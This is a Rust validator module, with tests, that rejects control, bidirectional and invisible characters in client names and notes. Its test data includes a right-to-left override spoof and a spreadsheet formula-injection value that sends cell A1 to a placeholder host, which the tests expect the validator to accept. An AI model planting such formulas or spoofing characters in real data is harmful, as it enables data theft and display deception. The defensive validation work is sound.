//! The characters a client's text may not hold, coded once
//! ([decision 0254](../../../docs/decisions/0254-one-line-texts.md)). A one-line text (a name, a
//! title, a one-line note) refuses every control character (C0 with tab, line feed and
//! carriage return, DEL, C1), the line and paragraph separators, the bidirectional controls
//! and the invisible formatting characters (Unicode's default-ignorable code points, the
//! variation selectors excepted). A text of several lines (a reason, a note, grounds) refuses
//! the same but keeps line feed, carriage return and tab.

/// Why a character is refused, as the refusal names it.
fn kind_of(c: char, lines: bool) -> Option<&'static str> {
    let u = c as u32;
    match u {
        0x09 | 0x0A | 0x0D if lines => None,
        0x00..=0x1F | 0x7F..=0x9F => Some("a control character"),
        0x2028 | 0x2029 => Some("a line or paragraph separator"),
        0x061C | 0x200E | 0x200F | 0x202A..=0x202E | 0x2066..=0x2069 => {
            Some("a bidirectional control")
        }
        // the variation selectors choose a glyph (emoji, ideographic variants): kept
        0x180B..=0x180D | 0x180F | 0xFE00..=0xFE0F | 0xE0100..=0xE01EF => None,
        // the rest of Default_Ignorable_Code_Point (Unicode 16, DerivedCoreProperties.txt)
        0x00AD
        | 0x034F
        | 0x115F
        | 0x1160
        | 0x17B4
        | 0x17B5
        | 0x180E
        | 0x200B..=0x200D
        | 0x2060..=0x206F
        | 0x3164
        | 0xFEFF
        | 0xFFA0
        | 0xFFF0..=0xFFF8
        | 0x1BCA0..=0x1BCA3
        | 0x1D173..=0x1D17A
        | 0xE0000..=0xE0FFF => Some("an invisible formatting character"),
        _ => None,
    }
}

/// The refusal of the first character `text` may not hold, or none. `lines`: line feed,
/// carriage return and tab are allowed (a text of several lines).
fn first_refused(text: &str, lines: bool) -> Option<String> {
    text.chars().enumerate().find_map(|(i, c)| {
        kind_of(c, lines).map(|kind| {
            format!(
                "must not contain U+{:04X} ({kind}), found at character {}",
                c as u32,
                i + 1
            )
        })
    })
}

/// `Err(message)` when a one-line text holds a refused character (see the module's rule).
pub fn one_line(text: &str) -> Result<(), String> {
    first_refused(text, false).map_or(Ok(()), Err)
}

/// `Err(message)` when a text of several lines holds a refused character: the one-line rule
/// with line feed, carriage return and tab allowed.
pub fn multi_line(text: &str) -> Result<(), String> {
    first_refused(text, true).map_or(Ok(()), Err)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn the_attacks_are_refused_by_code_point() {
        assert_eq!(
            one_line("Jan\u{202E}nomis"),
            Err("must not contain U+202E (a bidirectional control), found at character 4".into())
        );
        assert_eq!(
            one_line("a\nb"),
            Err("must not contain U+000A (a control character), found at character 2".into())
        );
        assert_eq!(
            one_line("zero\u{200B}width").unwrap_err(),
            "must not contain U+200B (an invisible formatting character), found at character 5"
        );
        for c in [
            '\0',
            '\t',
            '\r',
            '\u{7F}',
            '\u{85}',
            '\u{9F}',
            '\u{61C}',
            '\u{200E}',
            '\u{200F}',
            '\u{202A}',
            '\u{2066}',
            '\u{2069}',
            '\u{200C}',
            '\u{200D}',
            '\u{2060}',
            '\u{FEFF}',
            '\u{2028}',
            '\u{2029}',
            '\u{AD}',
            '\u{E0041}',
        ] {
            assert!(one_line(&format!("x{c}y")).is_err(), "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn ordinary_names_pass() {
        for name in [
            "Jan de Vries",
            "Ørjan Ødegård",
            "D'Artagnan-Müller",
            "Łukasz Żółć",
            "Ἀριστοτέλης",
            "محمد",
            "王小明",
            "=HYPERLINK(\"http://x/?d=\"&A1,\"Click\")",
            "❤\u{FE0F} club",
        ] {
            assert_eq!(one_line(name), Ok(()), "{name}");
        }
    }

    #[test]
    fn several_lines_keep_their_breaks_and_refuse_the_rest() {
        assert_eq!(multi_line("one\r\ntwo\tthree\n"), Ok(()));
        assert!(multi_line("one\n\u{202E}two").is_err());
        assert!(multi_line("bell\u{7}").is_err());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// A text the rule accepts holds no control character and no line break at all.
        #[test]
        fn an_accepted_one_line_text_holds_no_line_break(text in "\\PC{0,24}|.{0,24}") {
            if one_line(&text).is_ok() {
                prop_assert!(!text.chars().any(char::is_control));
                let breaks = ['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}'];
                prop_assert!(!text.contains(breaks));
            }
        }
    }
}
